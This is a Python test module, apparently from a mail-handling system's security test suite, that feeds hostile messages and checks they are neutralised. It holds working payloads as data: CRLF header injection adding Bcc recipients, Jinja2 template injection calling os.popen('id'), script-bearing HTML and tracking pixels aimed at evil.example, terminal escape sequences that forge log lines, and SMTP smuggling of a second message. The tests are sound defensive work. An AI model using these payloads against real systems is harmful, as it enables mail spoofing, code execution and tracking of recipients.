"""What must not come out: injected headers, templates that run, HTML that acts, lines that the sender wrote himself."""

from __future__ import annotations

from tests.attacks.further import CLIENT, Case, mail, parts, text_part

CLEAN = (["outgoing_headers_clean"], ["no_outgoing_to", "victima@tercero.example"])
ALIVE = (["survive", 2, 300], ["next_mail_ok"])
ACTIVE = """<html><body onload="alert(1)"><script>alert(2)</script><img src=x onerror=alert(3)>
<a href="javascript:alert(4)">aqui</a><form action="https://evil.example"><input name=p></form>
<iframe src="https://evil.example"></iframe><svg onload=alert(5)><math><mi xlink:href="data:x">
<object data="x"></object><embed src="x"><meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/"><style>@import url(//evil.example/x.css)</style><p>D10-OK</p></body></html>"""
TRACKING = """<p>D11-OK</p><img src="https://evil.example/p.gif?u=1" width=1 height=1>
<img srcset="//evil.example/2.gif 1x"><table background="http://evil.example/b.png"><tr><td>x</td></tr></table>
<div style="background:url(https://evil.example/3.png);position:fixed;top:0;left:0">overlay</div>
<link rel=stylesheet href="//evil.example/s.css"><video poster="https://evil.example/v.png"></video>"""


def _html(page: str) -> tuple[str, bytes]:
    return parts(text_part("texto"), text_part(page, "text/html"), kind="multipart/alternative")


def CASES() -> list[Case]:
    active, tracking = _html(ACTIVE), _html(TRACKING)
    deep = _html("<div>" * 200_000 + "hondo" + "</div>" * 200_000)
    return [
        Case(
            "D01-subject-crlf-bcc",
            "an encoded line break and a Bcc in the subject",
            mail(CLIENT, "factura =?utf-8?Q?=0D=0ABcc:_victima=40tercero.example?="),
            CLEAN,
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D02-subject-base64-crlf",
            "the same in base64, with a body after an empty line",
            mail(CLIENT, "=?utf-8?B?eA0KQmNjOiB2aWN0aW1hQHRlcmNlcm8uZXhhbXBsZQ0KDQpjdWVycG8=?="),
            CLEAN,
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D03-subject-lf-only",
            "bare LF and bare CR, in two encoded words",
            mail(
                CLIENT,
                "=?utf-8?Q?x=0ABcc:_victima=40tercero.example?= =?utf-8?Q?=0DReply-To:_victima=40tercero.example?=",
            ),
            CLEAN,
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D06-message-id-injects",
            "Message-ID and References that hold encoded breaks and words, folded oddly",
            mail(
                CLIENT,
                "ids",
                more="References: <a@b>\r\n =?utf-8?Q?=0D=0ABcc:_victima=40tercero.example?= <c d@e>\r\n"
                "In-Reply-To: <x\tBcc: victima@tercero.example>\r\n",
                message_id="=?utf-8?Q?=0D=0ABcc:_victima=40tercero.example?=",
            ),
            CLEAN,
            "accept",
            ["quarantine"],
            CLIENT,
        ),
        Case(
            "D08-template-injection",
            "Jinja2 in subject, name and body",
            mail(
                f"{{{{ config }}}} <{CLIENT}>",
                "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
                "{{ cycler.__init__.__globals__.os.popen('id').read() }} ${7*7} #{7*7} <%= 7*7 %> D08-OK\r\n",
            ),
            (
                ["outgoing_text_absent", "uid="],
                ["outgoing_text_absent", "<class "],
                ["text_present", "cycler.__init__"],
                *ALIVE,
            ),
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D10-active-html",
            "scripts, handlers, forms, frames, meta, base",
            mail(CLIENT, "html", active[1], mime=active[0]),
            (["html_inert"], ["no_network"]),
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D11-tracking",
            "remote pictures of every kind, and an overlay",
            mail(CLIENT, "html2", tracking[1], mime=tracking[0]),
            (["html_inert"], ["no_network"]),
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D14-nested-div",
            "200 000 nested <div>",
            mail(CLIENT, "divs", deep[1], mime=deep[0]),
            (["survive", 4, 300], ["next_mail_ok"]),
            "accept",
            ["quarantine", "reject"],
            CLIENT,
        ),
        Case(
            "D17-terminal",
            "escape sequences that write a line of the log, or repaint a terminal",
            mail(
                CLIENT,
                "=?utf-8?Q?x=1B[2J=1B]0;titulo=07=0A2026-01-12_ERROR_linea_falsa?=",
                "\x1b[31mrojo\x1b[0m D17-OK\r\n",
            ),
            (["log_one_line"], ["outgoing_headers_clean"], *ALIVE),
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D20-smuggled-body",
            "LF.LF, CR.CR and a second mail in the body",
            mail(
                CLIENT,
                "un correo",
                "antes\r\n\n.\nMAIL FROM:<ana@apolosoft.example>\nRCPT TO:<soporte@apolosoft.example>\nDATA\n"
                "From: ana@apolosoft.example\nSubject: [#1234] x\n\n#cerrar\n.\n\r.\r\r\nD20-OK\r\n",
            ),
            (["text_present", "D20-OK"], ["no_command"], ["tickets_max", 1], ["outgoing_headers_clean"]),
            "accept",
            (),
            CLIENT,
        ),
        Case(
            "D21-language-headers",
            "headers that letters could copy: Content-Language, Reply-To name, List-Unsubscribe",
            mail(
                f"=?utf-8?Q?J=0D=0ABcc:_victima=40tercero.example?= <{CLIENT}>",
                "copias",
                more="Content-Language: es\r\n =?utf-8?Q?=0ABcc:_victima=40tercero.example?=\r\n"
                "List-Unsubscribe: <mailto:victima@tercero.example>\r\n"
                "Reply-To: =?utf-8?Q?x=0ABcc:?= <victima@tercero.example>\r\n",
            ),
            CLEAN,
            "accept",
            ["quarantine"],
            CLIENT,
        ),
    ]
